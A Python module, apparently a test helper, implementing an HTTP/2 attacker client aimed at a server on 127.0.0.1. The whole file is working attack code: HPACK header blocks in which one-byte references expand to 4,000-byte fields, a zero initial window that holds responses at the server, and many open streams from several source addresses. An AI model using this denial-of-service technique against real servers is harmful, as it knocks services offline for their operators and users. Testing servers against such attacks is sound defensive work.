"""An attacker's HTTP/2 client: handmade frames, and compressed heads that expand to large ones."""

from __future__ import annotations

import asyncio
import struct
from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING, Final, Self

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS, _GOAWAY = 1, 3, 4, 7
_END_HEADERS: Final = 4
_INITIAL_WINDOW: Final = 4
# RFC 7541, appendix A: ":method: POST" and ":scheme: http" have indexes, the names ":path" and ":authority" do.
_HEAD: Final = b"\x83\x86\x04\x08/graphql\x01\x05cards"
_NEWEST: Final = b"\xbe"
"""The entry that the peer's table got last."""


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _value(length: int) -> bytes:
    """A string: its length as an integer with a prefix of seven bits (RFC 7541, section 5.1), and itself."""
    rest, coded = length - 127, b"\x7f"
    while rest >= 128:
        coded += bytes([rest % 128 + 128])
        rest //= 128
    return coded + bytes([rest]) + b"x" * length


class Http2Attacker:
    """One connection with a window of zero, so that responses stay at the server.

    Args:
        head_bytes: the size of each head after decompression.
    """

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, head_bytes: int) -> None:
        self._reader, self._writer = reader, writer
        self._head_bytes = head_bytes
        self._last = -1
        self.refused = False
        """The peer ended the connection."""
        self._reading = asyncio.ensure_future(self._read())

    @classmethod
    async def connected(cls, port: int, source: str, head_bytes: int) -> Self:
        """A connection from this address."""
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
        settings = struct.pack(">HI", _INITIAL_WINDOW, 0)
        writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, settings) + _frame(_SETTINGS, 1, 0, b""))
        return cls(reader, writer, head_bytes)

    def open_streams(self, count: int) -> None:
        """Send this many heads of requests without their bodies."""
        for _ in range(count):
            self._last += 2
            fields = self._head_bytes // 4000
            # The first adds a field of 4,000 bytes to the table; each later reference is one byte.
            first = b"\x40\x03x-x" + _value(3996) if self._last == 1 else _NEWEST
            block = _HEAD + first + _NEWEST * (fields - 1) if fields else _HEAD
            self._writer.write(_frame(_HEADERS, _END_HEADERS, self._last, block))

    async def flushed(self) -> None:
        """Flush what was written."""
        with suppress(ConnectionError):
            await self._writer.drain()

    async def aclose(self) -> None:
        """Close the connection."""
        self._reading.cancel()
        self._writer.transport.abort()
        await asyncio.gather(self._reading, return_exceptions=True)

    async def _read(self) -> None:
        with suppress(ConnectionError):
            while await self._reader.read(65_536):
                pass
        self.refused = True


@asynccontextmanager
async def http2_attack(
    port: int, sources: list[str], streams: int, head_bytes: int
) -> AsyncIterator[list[Http2Attacker]]:
    """One connection per source, which may repeat, with this many open requests each."""
    attackers = []
    try:
        for source in sources:
            with suppress(ConnectionError):
                attackers.append(await Http2Attacker.connected(port, source, head_bytes))
        for attacker in attackers:
            attacker.open_streams(streams)
            await attacker.flushed()
        yield attackers
    finally:
        for attacker in attackers:
            await attacker.aclose()
